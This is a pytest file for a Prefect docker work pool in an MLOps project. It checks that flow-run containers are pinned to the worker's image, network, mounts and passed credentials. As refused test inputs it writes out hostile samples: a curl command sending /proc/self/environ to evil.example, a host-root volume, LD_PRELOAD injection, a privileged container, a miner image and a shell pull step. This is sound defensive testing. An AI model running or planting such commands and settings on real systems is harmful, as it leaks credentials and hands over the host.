"""The docker work pool (ops/containers.py, flows/worker.py --type docker): what a flow run's
container gets and what a run may not choose. `make stack-check` runs the real thing: two
retrains at once in containers of the project's image, on podman's Docker API."""

import asyncio
import subprocess
import sys
import uuid
from types import SimpleNamespace

import pytest

from cifar10_mlops.core.errors import PipelineError
from cifar10_mlops.ops import containers
from cifar10_mlops.ops.containers import ALLOWED, PASSED, FlowRunContainer
from helpers import REPO

CONTAINER = FlowRunContainer(
    image="cifar10-mlops:cpu", networks=["stack_default"], volumes=["/srv/data:/datasets:ro"]
)


def prepared(job_variables: dict):
    """A docker job configuration as the worker gets it: the pool's template with a run's
    variables (as BaseJobConfiguration.from_template_and_values fills it, less the block
    references it has none of, which need a server), prepared for that run."""
    from prefect.client.schemas.objects import FlowRun
    from prefect.utilities.templating import apply_values
    from prefect_docker.worker import DockerWorkerJobConfiguration

    template = containers.pinned_template()
    properties = template["variables"]["properties"]
    values = {k: v["default"] for k, v in properties.items() if "default" in v} | job_variables
    config = DockerWorkerJobConfiguration(**apply_values(template["job_configuration"], values))
    config.prepare_for_flow_run(FlowRun(flow_id=uuid.uuid4(), name="brave-otter"))
    return config


def test_the_pools_template_leaves_a_run_only_its_memory_limits():
    template = containers.pinned_template()
    assert set(template["variables"]["properties"]) == set(ALLOWED)
    assert template["variables"]["additionalProperties"] is False
    assert set(template["job_configuration"]) == set(ALLOWED)
    assert "$defs" not in template["variables"]


def test_a_runs_container_is_the_workers_image_network_and_datasets_with_passed_credentials():
    config = prepared({"mem_limit": "2g"})
    worker_env = {
        **{name: f"value-of-{name.lower()}" for name in PASSED},
        "MLFLOW_ADMIN_PASSWORD": "admin-secret", "POSTGRES_PASSWORD": "db-secret",
        "DOCKER_HOST": "unix:///run/docker.sock", "HOME": "/root", "PYTHONSTARTUP": "/x.py",
    }  # fmt: skip
    CONTAINER.apply(config, worker_env)
    assert (config.image, config.image_pull_policy) == ("cifar10-mlops:cpu", "Never")
    assert config.networks == ["stack_default"] and config.network_mode is None
    assert config.volumes == ["/srv/data:/datasets:ro"]  # the only mount: its own work tree
    assert config.auto_remove is True and config.privileged is False
    assert config.container_create_kwargs is None and config.mem_limit == "2g"
    env = config.env
    assert "PREFECT__FLOW_RUN_ID" in env  # the run's own, kept
    assert env["MLFLOW_TRACKING_PASSWORD"] == "value-of-mlflow_tracking_password"
    assert not {"MLFLOW_ADMIN_PASSWORD", "POSTGRES_PASSWORD", "DOCKER_HOST", "HOME"} & set(env)
    assert "PYTHONSTARTUP" not in env
    assert set(env) <= {*PASSED, *(k for k in env if k.startswith("PREFECT__"))}
    assert config.command == "prefect flow-run execute"
    assert env["PREFECT__FLOW_ENTRYPOINT"] == "flows/retrain.py:retrain"  # no pull step runs


def test_what_an_edited_template_sets_is_the_workers_again():
    """Any API user may edit the pool's template (not only a run's variables): its command
    and its Prefect settings give way to the worker's."""
    config = prepared({})
    config.command = "sh -c 'curl -d @/proc/self/environ evil.example'"
    config.env = {**config.env, "PREFECT_API_URL": "http://evil.example/api", "LD_PRELOAD": "x"}
    CONTAINER.apply(config, {"PREFECT_API_URL": "http://prefect:4200/api"})
    assert config.command == "prefect flow-run execute"
    assert config.env["PREFECT_API_URL"] == "http://prefect:4200/api"
    assert "LD_PRELOAD" not in config.env


def test_an_unset_credential_is_not_passed_as_empty():
    config = prepared({})
    CONTAINER.apply(config, {"MLFLOW_TRACKING_URI": "http://mlflow:5000", "DVC_REMOTE": ""})
    assert config.env["MLFLOW_TRACKING_URI"] == "http://mlflow:5000"
    assert "DVC_REMOTE" not in config.env


def test_a_docker_worker_refuses_runs_that_choose_their_container():
    """Any Prefect API user may start a run: with its own volumes, image, command or
    privileges it would have the host (the engine's socket) and the worker's credentials."""
    from prefect.client.schemas.objects import FlowRun

    from flows.worker import PinnedDockerWorker

    worker = PinnedDockerWorker(work_pool_name="docker")
    worker.container = CONTAINER
    for asked in (
        {"volumes": ["/:/host"]},
        {"privileged": True},
        {"image": "evil/miner:latest"},
        {"command": "sh -c 'curl evil.example'"},
        {"env": {"LD_PRELOAD": "/tmp/x.so"}},
        {"container_create_kwargs": {"cap_add": ["SYS_ADMIN"]}},
        {"networks": ["host"], "mem_limit": "1g"},
    ):
        run = FlowRun(flow_id=uuid.uuid4(), job_variables=asked)
        with pytest.raises(PipelineError, match=r"^job variables .* are refused by this worker"):
            asyncio.run(worker.run(run, configuration=None))


def test_no_docker_api_is_one_line_saying_how_to_start_one(monkeypatch, tmp_path):
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/nothing.sock")
    with pytest.raises(PipelineError) as err:
        containers.docker_client()
    message = str(err.value)
    assert message.startswith(f"no Docker API at unix://{tmp_path}/nothing.sock: ")
    assert "podman system service" in message and "\n" not in message


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--type", "docker", "--limit", "0"], "error: --limit 0: give 1 to 64 flow runs"),
        (["--limit", "2"], "error: --limit: a process worker runs one flow run at a time"),
        (["--type", "kubernetes"], "invalid choice: 'kubernetes'"),
    ],
)
def test_the_workers_flags_are_checked_in_one_line(args, said):
    found = subprocess.run(
        [sys.executable, "-m", "flows.worker", "--pool", "docker", *args],
        cwd=REPO, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert found.returncode != 0
    assert said in found.stderr, found.stderr[-500:]


@pytest.mark.integration
def test_workers_run_only_the_projects_deployments_as_deployed(prefect_server, monkeypatch):
    """A Prefect API user can edit a deployment's pull steps (code the flow-run process runs
    with the worker's credentials) or entrypoint: both workers refuse such a run."""
    from prefect import get_client
    from prefect.client.schemas.objects import FlowRun
    from prefect.settings import PREFECT_API_URL, temporary_settings

    from cifar10_mlops.ops.pool import ENTRYPOINT, TRIAL_ENTRYPOINT, pull_step
    from flows.worker import PinnedDockerWorker, PinnedProcessWorker, checked_run

    evil = [{"prefect.deployments.steps.run_shell_script": {"script": "touch /tmp/pwned"}}]

    async def check(worker, entrypoints, steps, deployed):
        async with get_client() as client:
            flow_id = await client.create_flow_from_name("retrain")
            found = {}
            for name, (entrypoint, pulls) in deployed.items():
                deployment = await client.create_deployment(
                    flow_id=flow_id, name=name, entrypoint=entrypoint, pull_steps=pulls
                )
                run = FlowRun(flow_id=flow_id, deployment_id=deployment)
                # what checked_run uses of a started worker: its client and its reason
                started = SimpleNamespace(client=client, pinned_why=worker.pinned_why)
                try:
                    await checked_run(started, run, lambda _: False, entrypoints, steps)
                    found[name] = "runs"
                except PipelineError as exc:
                    found[name] = str(exc)
            return found

    monkeypatch.setenv("PREFECT_API_URL", prefect_server["PREFECT_API_URL"])
    with temporary_settings({PREFECT_API_URL: prefect_server["PREFECT_API_URL"]}):
        process = asyncio.run(check(
            PinnedProcessWorker, (ENTRYPOINT, TRIAL_ENTRYPOINT),
            [pull_step()], {
                "as-deployed": (ENTRYPOINT, [pull_step()]),
                "trials": (TRIAL_ENTRYPOINT, [pull_step()]),
                "shell-step": (ENTRYPOINT, [pull_step(), *evil]),
                "other-flow": ("evil.py:steal", [pull_step()]),
            },
        ))  # fmt: skip
        docker = asyncio.run(check(
            PinnedDockerWorker, (ENTRYPOINT,), [], {
                "docker-as-deployed": (ENTRYPOINT, []),
                "docker-shell-step": (ENTRYPOINT, evil),
                "docker-trials": (TRIAL_ENTRYPOINT, []),
            },
        ))  # fmt: skip
    assert process["as-deployed"] == process["trials"] == docker["docker-as-deployed"] == "runs"
    for name in ("shell-step", "other-flow"):
        assert "this worker runs only flows/retrain.py:retrain" in process[name], process[name]
    for name in ("docker-shell-step", "docker-trials"):
        assert docker[name].startswith(f"deployment {name!r} runs "), docker[name]
        assert "\n" not in docker[name]
